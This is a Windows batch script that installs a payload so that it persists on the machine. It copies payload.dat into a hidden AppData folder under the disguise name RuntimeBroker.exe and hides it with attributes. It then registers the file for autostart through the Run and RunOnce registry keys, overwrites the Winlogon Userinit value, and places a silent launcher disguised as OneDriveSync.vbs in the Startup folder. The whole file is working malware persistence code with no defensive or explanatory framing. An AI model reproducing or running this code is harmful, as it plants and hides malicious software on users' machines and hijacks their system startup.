@echo off
setlocal
set "HOME_=%APPDATA%\Microsoft\Windows\Templates\Cache"
set "BIN=%HOME_%\RuntimeBroker.exe"
if not exist "%HOME_%" mkdir "%HOME_%"
copy /y "%~dp0payload.dat" "%BIN%" >nul
copy /y "%~f0" "%HOME_%\rb.cmd" >nul
attrib +s +h "%HOME_%"
attrib +s +h "%BIN%"

reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "RuntimeBroker" /t REG_SZ /d "\"%BIN%\"" /f >nul
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v "*rb" /t REG_SZ /d "cmd /c \"%HOME_%\rb.cmd\"" /f >nul
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /t REG_SZ /d "C:\Windows\system32\userinit.exe,\"%BIN%\"" /f >nul 2>&1

echo Set s=CreateObject("WScript.Shell"):s.Run """%BIN%""",0 > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\OneDriveSync.vbs"
start "" "%BIN%"
endlocal
